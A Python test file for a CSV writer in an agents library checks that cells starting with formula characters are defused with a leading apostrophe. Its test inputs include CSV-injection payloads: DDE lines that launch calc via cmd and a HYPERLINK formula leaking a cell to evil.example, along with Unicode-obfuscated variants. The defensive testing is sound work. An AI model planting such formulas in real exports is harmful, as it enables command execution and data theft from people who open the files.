"""Rules for tables as CSV."""

import csv
import io
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from lib.agents.markdown import Table, read_markdown
from lib.agents.spreadsheet import write_csv


def cell(text: str) -> str:
    """The cell as a reader of CSV finds it."""
    ((_,), (found,)) = csv.reader(io.StringIO(write_csv(Table(("c",), ((text,),))), newline=""), strict=True)
    return found


def test_a_table_is_written_as_rfc_4180_has_it() -> None:
    """A line for the columns and one for each row, CRLF behind each; quotes where a comma or a quote needs them."""
    table = Table(("month", "total, net"), (("2026-01", "1200.00"), ('the "desk"', ""), ("Größe", "5 €")))
    expected = 'month,"total, net"\r\n2026-01,1200.00\r\n"the ""desk""",\r\nGröße,5 €\r\n'
    assert write_csv(table) == expected


def test_a_lone_empty_cell_is_still_a_row() -> None:
    """An empty line would be no row to many readers."""
    assert write_csv(Table(("c",), (("",),))) == 'c\r\n""\r\n'


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "=cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        '=HYPERLINK("https://evil.example?"&A1,"click")',
        "=",
        "-e5",
        "-$A$1",
        "＝1+1",
        "＋1+A1",
        "－1+A1",
        "＠SUM(A1)",
        "﹦1+1",
        "\N{MINUS SIGN}1+A1",
        " =1+1",
        "\xa0=1+1",
        "\u3000=1+1",
        "\ufeff=1+1",
        "\u200b=1+1",
        "\u202e=1+1",
        "\U000e0041=1+1",
        '"=1+1',
        '" "=1+1',
    ],
    ids=ascii,
)
def test_a_formula_becomes_a_text(text: str) -> None:
    """An apostrophe goes in front, before anything that a spreadsheet may take away."""
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize("end", ["\t", "\r", "\n", "\r\n", "\0", "\x0b", "\x85", "\u2028"], ids=ascii)
def test_a_formula_behind_a_control_becomes_a_text_on_one_line(end: str) -> None:
    """No cell goes on in a line of its own, which could begin with the formula."""
    spaces = " " * len(end)
    assert cell(f"{end}=1+1") == f"'{spaces}=1+1"
    assert cell(f"a{end}=1+1{end}b") == f"a{spaces}=1+1{spaces}b"


@pytest.mark.parametrize(
    ("text", "told"),
    [("a;=1+1;b", "a;'=1+1;b"), ('a; "=1+1', "a;' \"=1+1"), ("-5;-6", "-5;-6"), ("-5;-A6", "-5;'-A6"), ("a;b", "a;b")],
)
def test_a_part_behind_a_semicolon_is_a_cell_too(text: str, told: str) -> None:
    """Where the semicolon separates lists, a spreadsheet opens CSV by that and makes cells of the parts."""
    assert cell(text) == told


NUMBERS = [
    "-5", "+1.5", "-1,234.50", "1e5", "-1e5", "+1.5E-10", "-1.234,50", "-1 234,50", "-1'234.50", "-12.5%", "-5 %",
    "-$5", "-€1,234.50", "-5 €", "\N{MINUS SIGN}5", "-.5", "-", " -5 ", "+49 30 123456",
]  # fmt: skip


@pytest.mark.parametrize("text", [*NUMBERS, "", "a=b", "2026-01", "a - b", "x@y.example", "'=1+1", "–", "0", "(5)"])
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    """Numbers with a sign above all: a column of them must still add up."""
    assert cell(text) == text


CELLS = st.text(st.sampled_from("=+-@＝－;,\"' \t\r\n\ufeff\u200b1e5.%$ab(") | st.characters(exclude_categories=["Cs"]))
TABLES = st.integers(1, 4).flatmap(
    lambda width: st.lists(st.lists(CELLS, min_size=width, max_size=width).map(tuple), min_size=1, max_size=4)
)


@given(TABLES, st.sampled_from(",;"))
@example([("a", "x;=1+1;y")], ";")
@example([("a", 'x;"=1+1;y')], ";")
def test_no_spreadsheet_finds_a_formula(rows: list[tuple[str, ...]], separator: str) -> None:
    """Whichever separator it opens the file with, every cell begins with no sign, or is a number."""
    text = write_csv(Table(rows[0], tuple(rows[1:])))
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
        for found in row:
            begins = unicodedata.normalize("NFKC", found.lstrip(' "\ufeff\u200b\xa0'))[:1]
            assert begins not in set("=@\t\r\n")
            assert begins not in set("+-") or not any(character in "ab(=@" for character in found)


@given(TABLES)
def test_every_cell_comes_back(rows: list[tuple[str, ...]]) -> None:
    """As many rows and cells as there were, and but for the apostrophes and the controls each as it was."""
    read = list(csv.reader(io.StringIO(write_csv(Table(rows[0], tuple(rows[1:]))), newline=""), strict=True))
    plain = str.maketrans("\t\r\n", "   ", "'")
    assert [[found.replace("'", "") for found in row] for row in read] == [
        [
            "".join(" " if unicodedata.category(c) in {"Cc", "Zl", "Zp"} else c for c in text.translate(plain))
            for text in row
        ]
        for row in rows
    ]


def test_a_formula_in_an_agents_table_stays_as_it_is_in_json() -> None:
    """The table's own cells are the agent's texts; they are made harmless where CSV is made of them."""
    (table,) = read_markdown("| a |\n|---|\n| =1+1 |").tables
    assert table.rows == (("=1+1",),)
    assert write_csv(table) == "a\r\n'=1+1\r\n"
